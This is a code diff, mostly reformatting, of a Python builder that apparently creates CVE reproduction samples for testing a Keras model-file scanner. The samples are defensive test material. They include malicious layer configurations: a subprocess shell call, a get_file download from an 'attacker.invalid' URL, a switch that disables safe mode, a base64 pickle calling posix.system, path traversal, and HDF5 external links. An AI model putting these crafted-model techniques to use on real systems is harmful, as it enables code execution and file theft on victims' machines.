@@ -67,7 +67,12 @@ def _lambda_layer(name: str, function: dict[str, Any], arguments: dict[str, Any]
 
 
 def _fn(module: str, name: str) -> dict[str, Any]:
-    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}
+    return {
+        "module": module,
+        "class_name": "function",
+        "config": name,
+        "registered_name": "function",
+    }
 
 
 def harmless_pickle(name: str) -> bytes:
@@ -120,8 +125,11 @@ def build_cve_corpus(outdir: Path) -> dict[str, CveSample]:
     lam = build_lambda_model("toplevel")
     base_lambda_h5 = outdir / "base_lambda.h5"
     save_model(lam, base_lambda_h5)
-    for name, p in (("base_keras", base_keras), ("base_h5", base_h5),
-                    ("base_weights_h5", base_weights)):  # fmt: skip
+    for name, p in (
+        ("base_keras", base_keras),
+        ("base_h5", base_h5),
+        ("base_weights_h5", base_weights),
+    ):
         out[name] = CveSample(p, None, (), "unedited real Keras 3 file")
 
     def keras(name: str, cve: str, rules: tuple[str, ...], note: str, edit: Any) -> None:
@@ -130,67 +138,124 @@ def build_cve_corpus(outdir: Path) -> dict[str, CveSample]:
         out[name] = CveSample(dst, cve, rules, note)
 
     keras(
-        "cve_2025_1550_keras", "CVE-2025-1550", ("MX-KERAS-201",),
+        "cve_2025_1550_keras",
+        "CVE-2025-1550",
+        ("MX-KERAS-201",),
         "functional-style layer {'module': 'subprocess', 'class_name': 'run'} with inbound args",
-        _add_layer({
-            "module": "subprocess", "class_name": "run", "config": {}, "registered_name": None,
-            "name": "pwn",
-            "inbound_nodes": [{"args": [["sh", "-c", marker_command("cve_2025_1550_keras")]],
-                               "kwargs": {}}],
-        }),
-    )  # fmt: skip
+        _add_layer(
+            {
+                "module": "subprocess",
+                "class_name": "run",
+                "config": {},
+                "registered_name": None,
+                "name": "pwn",
+                "inbound_nodes": [
+                    {"args": [["sh", "-c", marker_command("cve_2025_1550_keras")]], "kwargs": {}}
+                ],
+            }
+        ),
+    )
     keras(
-        "cve_2025_8747_keras", "CVE-2025-8747", ("MX-KERAS-204", "MX-KERAS-206"),
+        "cve_2025_8747_keras",
+        "CVE-2025-8747",
+        ("MX-KERAS-204", "MX-KERAS-206"),
         "Lambda function keras.utils.get_file with an origin URL (never contacted)",
-        _add_layer(_lambda_layer("dl", _fn("keras.utils", "get_file"), {
-            "origin": "https://attacker.invalid/payload.keras", "cache_dir": "/tmp/mx_cache"})),
-    )  # fmt: skip
+        _add_layer(
+            _lambda_layer(
+                "dl",
+                _fn("keras.utils", "get_file"),
+                {"origin": "https://attacker.invalid/payload.keras", "cache_dir": "/tmp/mx_cache"},
+            )
+        ),
+    )
 
     def two_stage(tree: Any) -> int:
-        _layers(tree).append(_lambda_layer(
-            "off", _fn("keras.src.backend.common.global_state", "set_global_attribute"),
-            {"value": False}))
-        _layers(tree)[-1]["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": "safe_mode_saving"}}]
-        _layers(tree).append(_lambda_layer(
-            "unsafe_deserialization", _fn("keras.models", "load_model"), {"safe_mode": False}))
+        _layers(tree).append(
+            _lambda_layer(
+                "off",
+                _fn("keras.src.backend.common.global_state", "set_global_attribute"),
+                {"value": False},
+            )
+        )
         _layers(tree)[-1]["inbound_nodes"] = [
-            {"args": [], "kwargs": {"inputs": "/tmp/modelxray_marker_cve_2025_9906.keras"}}]
-        return 2  # fmt: skip
+            {"args": [], "kwargs": {"inputs": "safe_mode_saving"}}
+        ]
+        _layers(tree).append(
+            _lambda_layer(
+                "unsafe_deserialization", _fn("keras.models", "load_model"), {"safe_mode": False}
+            )
+        )
+        _layers(tree)[-1]["inbound_nodes"] = [
+            {"args": [], "kwargs": {"inputs": "/tmp/modelxray_marker_cve_2025_9906.keras"}}
+        ]
+        return 2
 
     keras(
-        "cve_2025_9906_keras", "CVE-2025-9906", ("MX-KERAS-204",),
+        "cve_2025_9906_keras",
+        "CVE-2025-9906",
+        ("MX-KERAS-204",),
         "set_global_attribute('safe_mode_saving', False) then load_model(path, safe_mode=False)",
         two_stage,
     )
     wrapper_name = "cve_2025_49655_keras"
     keras(
-        wrapper_name, "CVE-2025-49655", ("MX-KERAS-207",),
+        wrapper_name,
+        "CVE-2025-49655",
+        ("MX-KERAS-207",),
         "TorchModuleWrapper whose module is base64 of a pickle calling posix.system(echo marker)",
-        _add_layer({
-            "module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
-            "config": {"name": "torch_module_wrapper", "trainable": True, "output_shape": None,
-                       "module": base64.b64encode(harmless_pickle(wrapper_name)).decode("ascii")},
-        }),
-    )  # fmt: skip
+        _add_layer(
+            {
+                "module": "keras.layers",
+                "class_name": "TorchModuleWrapper",
+                "registered_name": None,
+                "config": {
+                    "name": "torch_module_wrapper",
+                    "trainable": True,
+                    "output_shape": None,
+                    "module": base64.b64encode(harmless_pickle(wrapper_name)).decode("ascii"),
+                },
+            }
+        ),
+    )
     keras(
-        "cve_2025_12058_keras", "CVE-2025-12058", ("MX-KERAS-209",),
+        "cve_2025_12058_keras",
+        "CVE-2025-12058",
+        ("MX-KERAS-209",),
         "StringLookup vocabulary = an absolute file path",
-        _add_layer({
-            "module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
-            "config": {"name": "lk", "vocabulary": "/tmp/modelxray_marker_vocab.txt",
-                       "max_tokens": None, "num_oov_indices": 1},
-        }),
-    )  # fmt: skip
+        _add_layer(
+            {
+                "module": "keras.layers",
+                "class_name": "StringLookup",
+                "registered_name": None,
+                "config": {
+                    "name": "lk",
+                    "vocabulary": "/tmp/modelxray_marker_vocab.txt",
+                    "max_tokens": None,
+                    "num_oov_indices": 1,
+                },
+            }
+        ),
+    )
     keras(
-        "cve_2026_1462_keras", "CVE-2026-1462", ("MX-KERAS-208",),
+        "cve_2026_1462_keras",
+        "CVE-2026-1462",
+        ("MX-KERAS-208",),
         "TFSMLayer filepath = an absolute path to an attacker SavedModel",
-        _add_layer({
-            "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
-            "config": {"name": "tfsm", "trainable": True,
-                       "filepath": "/tmp/modelxray_marker_savedmodel",
-                       "call_endpoint": "serve", "call_training_endpoint": None},
-        }),
-    )  # fmt: skip
+        _add_layer(
+            {
+                "module": "keras.layers",
+                "class_name": "TFSMLayer",
+                "registered_name": None,
+                "config": {
+                    "name": "tfsm",
+                    "trainable": True,
+                    "filepath": "/tmp/modelxray_marker_savedmodel",
+                    "call_endpoint": "serve",
+                    "call_training_endpoint": None,
+                },
+            }
+        ),
+    )
 
     # CVE-2026-12479: a member that climbs out of the extraction directory, and a layer name
     # that climbs out of the asset directory.
@@ -208,8 +273,13 @@ def build_cve_corpus(outdir: Path) -> dict[str, CveSample]:
                 return 1
         return 0
 
-    keras("cve_2026_12479_layer_keras", "CVE-2026-12479", ("MX-KERAS-306",),
-          "Dense layer named ../../../tmp/… (asset paths derive from layer names)", climb)
+    keras(
+        "cve_2026_12479_layer_keras",
+        "CVE-2026-12479",
+        ("MX-KERAS-306",),
+        "Dense layer named ../../../tmp/… (asset paths derive from layer names)",
+        climb,
+    )
 
     # CVE-2025-9905: a Keras 3 legacy .h5 whose Lambda code calls os.system(echo marker).
     name = "cve_2025_9905_h5"
@@ -231,9 +301,12 @@ def build_cve_corpus(outdir: Path) -> dict[str, CveSample]:
     name = "cve_2026_1669_keras"
     dst = outdir / f"{name}.keras"
     _edit_inner_weights(base_keras, dst, outdir, external)
-    out[name] = CveSample(dst, "CVE-2026-1669", ("MX-KERAS-301", "MX-KERAS-303"),
-                          "model.weights.h5: a weight replaced by an ExternalLink, plus an "
-                          "external-storage dataset")  # fmt: skip
+    out[name] = CveSample(
+        dst,
+        "CVE-2026-1669",
+        ("MX-KERAS-301", "MX-KERAS-303"),
+        "model.weights.h5: a weight replaced by an ExternalLink, plus an external-storage dataset",
+    )
 
     # ... and a legacy .h5 whose weights use external storage and a virtual dataset.
     name = "cve_2026_1669_h5"
@@ -241,13 +314,18 @@ def build_cve_corpus(outdir: Path) -> dict[str, CveSample]:
     shutil.copy(base_h5, dst)
     with h5py.File(dst, "a") as f:
         g = f.require_group("model_weights")
-        g.create_dataset("leak", shape=(8,), dtype="u1",
-                         external=[("/tmp/modelxray_marker_hosts", 0, 8)])  # fmt: skip
+        g.create_dataset(
+            "leak", shape=(8,), dtype="u1", external=[("/tmp/modelxray_marker_hosts", 0, 8)]
+        )
         layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
         layout[:] = h5py.VirtualSource("/tmp/modelxray_marker_other.h5", "data", shape=(4,))
         g.create_virtual_dataset("virtual", layout)
-    out[name] = CveSample(dst, "CVE-2026-1669", ("MX-KERAS-303", "MX-KERAS-304"),
-                          "legacy .h5 with external storage and a virtual dataset")  # fmt: skip
+    out[name] = CveSample(
+        dst,
+        "CVE-2026-1669",
+        ("MX-KERAS-303", "MX-KERAS-304"),
+        "legacy .h5 with external storage and a virtual dataset",
+    )
 
     # CVE-2026-0897: a weights dataset declaring 8 PB that stores nothing.
     name = "cve_2026_0897_h5"
